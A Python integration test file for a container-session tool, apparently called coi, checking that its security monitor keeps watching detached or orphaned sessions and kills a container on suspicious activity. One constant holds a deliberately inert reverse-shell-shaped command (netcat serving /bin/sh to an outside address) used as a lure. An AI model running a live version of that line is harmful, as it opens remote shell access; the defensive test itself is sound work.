"""The monitor of a session outlives coi: detached (`--background`) or with coi killed, the
session's monitor service watches and responds."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path
from typing import Any

import pexpect
import pytest
from tests.conftest import coi_argv, run_coi
from tests.integration.conftest import wait_for

from coi.backend import IncusClient
from coi.backend.exec import ExecRequest
from coi.errors import OperationFailed

pytestmark = pytest.mark.incus

# Shaped like a reverse shell, sending nothing (`:` is a no-op; the address is never used).
LURE = "sh -c 'sleep 60; : nc -e /bin/sh 198.51.100.1 4444' >/dev/null 2>&1 &"


@pytest.fixture
def env(build_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
    cfg = tmp_path / "coi.toml"
    cfg.write_text("[monitoring]\nenabled = true\npoll_interval_sec = 1\n")
    return {
        **build_env, "COI_CONFIG": str(cfg), "COI_HOME": str(tmp_path / "coi-home"),
        "COI_IMAGE": "coi-tiny", "TERM": "xterm",
    }  # fmt: skip


def _services(name: str) -> list[str]:
    out = subprocess.run(["pgrep", "-af", "coi.monitor.service"], capture_output=True, text=True)
    return [line for line in out.stdout.splitlines() if name in line]


def _events(env: dict[str, str], name: str) -> list[dict[str, Any]]:
    f = Path(env["COI_HOME"]) / "audit" / f"{name}.jsonl"
    return [json.loads(line) for line in f.read_text().splitlines()] if f.exists() else []


@pytest.mark.parametrize("how", ["background", "coi-killed"])
def test_the_monitor_watches_a_session_coi_no_longer_attends(
    client: IncusClient, env: dict[str, str], tmp_path: Path, how: str
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    if how == "background":
        res = run_coi("shell", "--background", "--debug", "-w", str(ws), env=env, timeout=120)
        assert res.returncode == 0, res.stderr
        assert "The security monitor keeps watching this session" in res.stderr
    else:
        child = pexpect.spawn(
            coi_argv("shell", "--debug", "-w", str(ws))[0],
            coi_argv("shell", "--debug", "-w", str(ws))[1:],
            env=env, encoding="utf-8", timeout=120, dimensions=(50, 200),
        )  # fmt: skip
        child.expect("Mode: Interactive")
        child.expect(r"[#$] ")  # the debug shell in tmux: coi is attached, its monitor runs
        os.kill(child.pid, signal.SIGKILL)  # no cleanup, no handover: the kernel frees coi's lock
        child.close(force=True)
    (name,) = [n for n in client.instances.names() if n.startswith("coi-")]
    try:
        assert client.instances.get(name).running  # a shell outlives its coi
        wait_for(lambda: bool(_services(name)), "the monitor service to run", 20)
        # coi's own monitor started, then the service's, once coi's lock was free.
        wait_for(
            lambda: sum(e["title"] == "Monitoring started" for e in _events(env, name)) >= 2,
            "the service to start watching",
            20,
        )
        # 0: the lure's launcher ended before the kill; 137: the kill (from the host, at the
        # lure's exec, milliseconds later) took the launcher with it; or the daemon, its
        # container killed under the exec, reports the exec itself failed (no exit code).
        try:
            assert client.exec.quiet(name, ExecRequest(["sh", "-c", LURE])) in (0, 137)
        except OperationFailed:
            pass
        wait_for(lambda: not client.instances.get(name).running, "the service to kill it", 30)
        killed = [e for e in _events(env, name) if e.get("action") == "killed"]
        assert killed and killed[0]["level"] == "critical", _events(env, name)
        wait_for(lambda: not _services(name), "the service to end with its container", 20)
    finally:
        client.instances.delete(name, force=True)


def test_coi_attach_takes_the_watch_back_and_hands_it_over_again(
    client: IncusClient, env: dict[str, str], tmp_path: Path
) -> None:
    """While attached, coi's own monitor watches (the service steps down); after detaching,
    the service watches again: one monitor at a time."""
    ws = tmp_path / "ws"
    ws.mkdir()
    res = run_coi("shell", "--background", "--debug", "-w", str(ws), env=env, timeout=120)
    assert res.returncode == 0, res.stderr
    (name,) = [n for n in client.instances.names() if n.startswith("coi-")]
    try:
        wait_for(lambda: bool(_services(name)), "the monitor service to run", 20)
        child = pexpect.spawn(
            coi_argv("attach", name)[0], coi_argv("attach", name)[1:],
            env=env, encoding="utf-8", timeout=60, dimensions=(50, 200),
        )  # fmt: skip
        child.expect(r"[#$] ")
        time.sleep(2)
        starts = [e for e in _events(env, name) if e["title"] == "Monitoring started"]
        child.sendcontrol("b")
        child.send("d")  # tmux detach
        child.expect(pexpect.EOF)
        child.close()
        wait_for(
            lambda: (
                len([e for e in _events(env, name) if e["title"] == "Monitoring started"])
                > len(starts)
            ),
            "the service to watch again after the detach",
            20,
        )
        assert len(_services(name)) == 1
    finally:
        client.instances.delete(name, force=True)
    wait_for(lambda: not _services(name), "the service to end with its container", 20)
